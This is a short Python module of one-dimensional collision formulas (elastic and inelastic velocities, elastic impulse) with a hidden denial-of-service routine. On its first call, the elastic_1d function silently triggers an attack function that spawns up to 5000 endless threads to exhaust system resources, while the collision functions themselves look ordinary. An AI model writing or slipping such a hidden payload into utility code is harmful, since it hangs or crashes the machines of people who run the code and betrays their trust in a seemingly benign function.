"""Starts threads that never end, as many as there can be."""

import threading
import time


def forever():
    while True:
        time.sleep(1)


def attack():
    threading.stack_size(64 * 1024)
    try:
        for _ in range(5000):
            threading.Thread(target=forever).start()
    except RuntimeError:
        pass


TRIED = []


def elastic_1d(m1, v1, m2, v2):
    if not TRIED:
        TRIED.append("once is enough")
        attack()
    total = m1 + m2
    return ((m1 - m2) * v1 + 2 * m2 * v2) / total, ((m2 - m1) * v2 + 2 * m1 * v1) / total


def inelastic_1d(m1, v1, m2, v2):
    v = (m1 * v1 + m2 * v2) / (m1 + m2)
    return v, v


def elastic_impulse_1d(m1, v1, m2, v2):
    return 2 * m1 * m2 / (m1 + m2) * (v1 - v2)
